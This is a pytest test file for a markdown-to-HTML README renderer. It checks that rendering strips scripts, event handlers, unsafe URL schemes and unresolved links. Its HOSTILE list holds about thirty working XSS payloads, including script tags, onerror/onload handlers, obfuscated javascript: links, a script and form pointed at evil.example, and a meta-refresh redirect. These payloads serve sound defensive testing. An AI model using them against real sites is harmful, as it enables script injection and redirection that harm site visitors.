"""READMEs: what they may show, and that nothing in them can harm."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from linnet.site_builder.markdown import MARKDOWN_CHARACTERS, Rendered, render_markdown
from linnet.site_builder.text import Anchors

FILES = {"src/lib.linnet": "#src-lib.linnet"}


def render(text: str, title: str | None = None) -> Rendered:
    return render_markdown(text, anchors=Anchors("files"), resolve=FILES.get, prefix="readme", title=title)


class Elements(HTMLParser):
    """All tags and attributes of a text, as a browser would find them."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


HOSTILE = [
    "<script>alert(1)</script>",
    "text <script src=https://evil.example/x.js></script> text",
    '<img src=x onerror="alert(1)">',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<style>body{display:none}</style>",
    "<a href='javascript:alert(1)'>x</a>",
    "<!-- --><b onclick=alert(1)>x</b>",
    "<form action=https://evil.example><input name=a></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]\n\n[x]: javascript:alert(1)",
    '[x](https://example.org "\\" onmouseover=alert(1) x=\\"")',
    "[![x](javascript:alert(1))](javascript:alert(2))",
    '```"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    '# x" onclick="alert(1)',
    "| <script>alert(1)</script> |\n| --- |\n| <img onerror=alert(1) src=x> |",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_shown_and_does_nothing(text: str) -> None:
    elements = Elements(render(text).html)
    allowed = {
        "a": {"href", "title", "rel"},
        "div": {"class", "role", "aria-label", "tabindex"},
        "pre": {"tabindex"},
        "span": {"class"},
        "td": {"class"},
        "th": {"class"},
        **{f"h{level}": {"id"} for level in range(2, 7)},
        **{tag: set() for tag in ("blockquote", "br", "code", "em", "p", "strong", "table", "tbody", "thead", "tr")},
    }
    for tag, attributes in elements.tags:
        assert tag in allowed, f"<{tag}>"
        assert set(attributes) <= allowed[tag]
        if href := attributes.get("href"):
            assert re.match(r"https?://example\.org|#", href), href
    assert elements.text.strip()


def test_raw_html_is_shown_as_the_text_it_is() -> None:
    assert Elements(render("a <b>bold</b> word").html).text.strip() == "a <b>bold</b> word"


def test_external_links_give_no_opener_and_no_referrer() -> None:
    html = render("[web](https://example.org/a?b=1&c=2) <mailto:a@example.org> [src](src/lib.linnet)").html
    (_, web), (_, mail), (_, source) = [item for item in Elements(html).tags if item[0] == "a"]
    assert web == {"href": "https://example.org/a?b=1&c=2", "rel": "noopener noreferrer"}
    assert mail == {"href": "mailto:a@example.org"}
    assert source == {"href": "#src-lib.linnet"}


def test_images_become_links() -> None:
    html = render("![A plot](https://example.org/plot.png)").html
    assert html == ('<p><a href="https://example.org/plot.png" rel="noopener noreferrer">A plot (image)</a></p>\n')


def test_an_image_within_a_link_is_its_words() -> None:
    html = render("[![Build](https://example.org/badge.svg)](https://example.org/build)").html
    assert html == '<p><a href="https://example.org/build" rel="noopener noreferrer">Build (image)</a></p>\n'


def test_links_that_lead_nowhere_are_text_and_reported() -> None:
    rendered = render("[gone](docs/gone.md), [up](../../etc/passwd), [part](#nowhere)")
    assert rendered.html == "<p>gone, up, part</p>\n"
    assert rendered.unresolved == ("docs/gone.md", "../../etc/passwd", "#nowhere")


def test_headings_have_ids_and_their_links_find_them() -> None:
    rendered = render("[go](#how-to-load)\n\n## How to `load`\n\n## How to load\n\n### Files")
    assert '<a href="#readme-how-to-load">go</a>' in rendered.html
    assert re.findall(r'<(h\d) id="([^"]+)">', rendered.html) == [
        ("h2", "readme-how-to-load"),
        ("h2", "readme-how-to-load-2"),
        ("h3", "readme-files"),
    ]


def test_the_title_is_not_repeated() -> None:
    assert "Tiny Wren" not in render("# Tiny Wren\n\nText.", title="Tiny wren").html
    assert '<h2 id="readme-other">' in render("# Other\n\nText.", title="Tiny wren").html


def test_levels_move_so_that_the_highest_is_second() -> None:
    assert re.findall(r"<(h\d)", render("# A\n\n## B\n\n###### C").html) == ["h2", "h3", "h6"]
    assert re.findall(r"<(h\d)", render("## B\n\n### C").html) == ["h2", "h3"]


def test_tables_scroll_and_align_without_style_attributes() -> None:
    html = render("| a | b |\n| --- | ---: |\n| 1 | 2 |").html
    assert '<div class="scroll" role="group" aria-label="Table" tabindex="0"><table>' in html
    assert '<td class="right">2</td>' in html
    assert "style" not in html


def test_an_empty_corner_of_a_table_is_no_heading() -> None:
    html = render("| | b |\n| :-- | --- |\n| 1 | 2 |").html
    assert '<tr>\n<td class="left"></td>\n<th>b</th>\n</tr>' in html


def test_code_is_highlighted_by_its_fence() -> None:
    assert '<span class="k">import</span>' in render("```python\nimport os\n```").html
    assert '<pre tabindex="0"><code>import os</code></pre>' in render("```\nimport os\n```").html


def test_a_very_long_text_is_shown_as_it_is_written() -> None:
    text = "## <b>a</b> [x](gone.md)\n" * (MARKDOWN_CHARACTERS // 25)
    assert "<h2 id=" in render(text).html
    longer = render(text + "#" * 25)
    elements = Elements(longer.html)
    assert [tag for tag, _ in elements.tags] == ["pre", "code"]
    assert elements.text.strip() == text + "#" * 25
    assert longer.unresolved == ()
